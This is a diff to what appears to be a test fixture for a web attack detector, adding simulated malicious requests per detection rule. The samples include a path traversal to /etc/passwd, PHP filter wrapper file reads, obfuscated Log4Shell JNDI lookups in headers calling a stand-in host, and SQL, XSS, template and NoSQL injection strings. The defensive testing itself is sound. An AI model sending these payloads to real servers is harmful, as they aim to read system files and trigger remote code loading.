@@ -148,7 +148,7 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
   [
     'foreign-file',
     'what other software is made of',
-    () => [...times(10, (index) => `GET /shop${index}.php`), ...times(10, (index) => `GET /${index}.aspx`)],
+    () => [...times(15, (index) => `GET /shop${index}.php`), ...times(7, (index) => `GET /${index}.php`)],
   ],
   [
     'scanner-agent',
@@ -159,21 +159,24 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
     ],
   ],
   ['certain-payload', 'a way out of the folder', () => [['GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd']]],
+  ['certain-payload', 'wrappers of PHP', () => times(2, () => 'GET /?file=php://filter/resource=index')],
   [
-    'certain-payload',
-    'a look-up in a header',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send.
-    () => [['GET /public', { referer: '${jndi:ldap://e.example/a}' }]],
+    'certain-payload-owned',
+    'look-ups in headers',
+    () => [
+      ['GET /public', { referer: '${jndi:ldap://e.example/a}' }],
+      ['GET /public', { 'user-agent': '${${lower:j}ndi:ldap://e.example/a}' }],
+    ],
   ],
-  ['certain-payload', 'a wrapper of PHP', () => [['GET /?file=php://filter/resource=index']]],
   [
     'likely-payload',
-    'four injections, answered 404',
+    'five injections, answered 404',
     () => [
       ["GET /parcels/a?q='%20or%20'1'='1"],
       ['GET /parcels/a?q=1+or/**/1%3D1'],
       ['GET /parcels/b?r=%3Cscript%3Ealert(1)'],
       ['GET /parcels/b?s=%7B%7B7*7%7D%7D'],
+      ['GET /parcels/b?t[%24ne]=1'],
     ],
   ],
   [
